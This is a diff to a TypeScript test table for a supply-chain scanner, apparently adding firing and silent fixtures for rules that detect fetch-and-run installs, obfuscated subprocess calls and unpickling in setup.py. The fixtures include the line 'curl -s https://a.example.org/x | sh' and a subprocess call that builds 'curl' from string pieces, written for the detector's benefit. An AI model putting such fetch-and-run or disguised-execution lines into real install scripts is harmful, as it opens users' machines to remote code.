@@ -34,6 +34,21 @@ const rows: readonly Row[] = [
     silent: { configure: "curl -s https://a.example.org/x | wc -c\n" },
   },
   {
+    rule: "flow/fetched-runs", // only the one at the root is looked for by its name (numpy's vendored meson)
+    fires: { "install.sh": "#!/bin/sh\ncurl -s https://a.example.org/x | sh\n" },
+    silent: { "vendored/ci/install.sh": "#!/bin/sh\ncurl -s https://a.example.org/x | sh\n" },
+  },
+  {
+    rule: "flow/literal-runs", // sys.executable is no name in pieces (pytest)
+    fires: { "a.py": 'import subprocess\nsubprocess.run(["cu" + "rl", "x"])\n' },
+    silent: { "a.py": 'import subprocess, sys\na = "python"\nb = "3"\nsubprocess.run([sys.executable, "x"])\n' },
+  },
+  {
+    rule: "flow/opaque-runs", // tests read pickles back (numpy)
+    fires: { "setup.py": 'import gzip, pickle\npickle.load(gzip.open("tests/a.gz"))\n', "tests/a.gz": noise("a", 300) },
+    silent: { "tests/test_a.py": 'import gzip, pickle\npickle.load(gzip.open("tests/a.gz"))\n', "tests/a.gz": noise("a", 300) },
+  },
+  {
     rule: "flow/built-command",
     fires: { configure: `f=\`grep -l "^mark one$" data/*\`\n\${f##*.} -c x\n`, "data/a.tool": "mark one\n", "data/b.tool": "two\n" },
     silent: { configure: 'f=`grep -l "^mark one$" data/*`\ncat $f\n', "data/a.tool": "mark one\n", "data/b.tool": "two\n" },
